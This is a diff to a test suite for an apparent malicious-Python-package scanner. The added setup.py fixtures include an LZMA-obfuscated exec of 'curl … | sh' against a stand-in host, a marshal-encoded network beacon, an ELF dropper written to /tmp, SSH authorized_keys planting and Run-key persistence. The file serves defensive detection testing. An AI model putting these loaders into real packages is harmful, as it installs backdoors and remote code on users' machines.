@@ -5,6 +5,12 @@ import { findingsOf, makeWheel, rulesOf, scanDist, scanSdist } from './helpers.j
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const XOR_KEY = '4915';
+/** `lzma.compress(b"import os\\nos.system('curl -s http://192.0.2.1/x | sh')\\n")` (an .xz stream). */
+const LZMA_HEX =
+  'fd377a585a000004e6d6b4460200210116000000742fe5a3010036696d706f7274206f730a6f732e73797374656d28276375726c202d7320687474703a2f2f3139322e302e322e312f78207c20736827290a00007a1d112da4a1aaf700014f37ee43daef1fb6f37d010000000004595a';
+/** `marshal.dumps(compile("import urllib.request\\nurllib.request.urlopen('http://192.0.2.1/beacon')", ...))` (CPython 3.11). */
+const MARSHAL_HEX =
+  '630000000000000000000000000300000000000000f3420000009700640064016c005a0165016a020000000000000000a00300000000000000000000000000000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a17687474703a2f2f3139322e302e322e312f626561636f6e2904da0e75726c6c69622e72657175657374da0675726c6c6962da0772657175657374da0775726c6f70656ea900f300000000fa033c783efa083c6d6f64756c653e720900000001000000732e000000f003010101d80015d00015d00015d00015d80006840ed70016d20016d01730d10031d40031d00031d00031d000317207000000';
 /** XOR of each character with a repeating key (what XOR-loop loaders undo). */
 const xor = (s: string, key: string) =>
   [...s].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
@@ -45,6 +51,32 @@ const CASES: Case[] = [
       'setup.py': `import zlib, base64\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${[...deflateSync(Buffer.from("print('x')")).toString('base64')].reverse().join('')}'))\n${SETUP}`,
     },
     negative: { 'setup.py': `exec(open('fixture_py/_version.py').read())\n${SETUP}` },
+  },
+  {
+    // lzma.compress output (.xz) is decoded statically and analysed as code
+    rule: 'PY-001',
+    positive: { 'setup.py': `import lzma\nexec(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
+    negative: { 'setup.py': `import lzma\nprint(lzma.decompress(bytes.fromhex('${LZMA_HEX}')))\n${SETUP}` },
+    check: (r) => {
+      expect(String(findingsOf(r, 'PY-001')[0]?.evidence?.decoded)).toContain('os.system');
+      expect(findingsOf(r, 'PY-004').some((x) => x.evidence?.decodedDepth === 1)).toBe(true);
+    },
+  },
+  {
+    // exec(marshal.loads(...)): never run; the code object's strings are read as data
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `import marshal\nexec(marshal.loads(bytes.fromhex('${MARSHAL_HEX}')))\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import marshal\nc = marshal.loads(bytes.fromhex('${MARSHAL_HEX}'))\nprint(c)\n${SETUP}`,
+    },
+    check: (r) => {
+      const f = findingsOf(r, 'PY-001')[0]!;
+      expect(f.evidence?.marshal).toBe(true);
+      expect(f.evidence?.strings).toContain('urlopen');
+      expect(findingsOf(r, 'NET-001').some((x) => String(x.message).includes('192.0.2.1'))).toBe(true);
+    },
   },
   {
     rule: 'PY-002',
@@ -227,6 +259,26 @@ const CASES: Case[] = [
         "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\u.exe')\n",
     },
     negative: { 'fixture_py/__init__.py': "SHELLS = ['.bashrc', '.zshrc']\n" },
+  },
+  {
+    // an executable carried as a bytes literal, written out and made executable
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import os\nwith open('/tmp/.cache/upd', 'wb') as f:\n    f.write(b'\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00')\nos.chmod('/tmp/.cache/upd', 0o755)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `with open('build/data.bin', 'wb') as f:\n    f.write(b'\\x00\\x01\\x02\\x03')\n${SETUP}`,
+    },
+  },
+  {
+    // planting an SSH key
+    rule: 'PY-011',
+    positive: {
+      'setup.py': `with open('/root/.ssh/authorized_keys', 'a+') as f:\n    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFixture fixture')\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys')) as f:\n    print(len(f.read()))\n${SETUP}`,
+    },
   },
   {
     rule: 'PY-012',
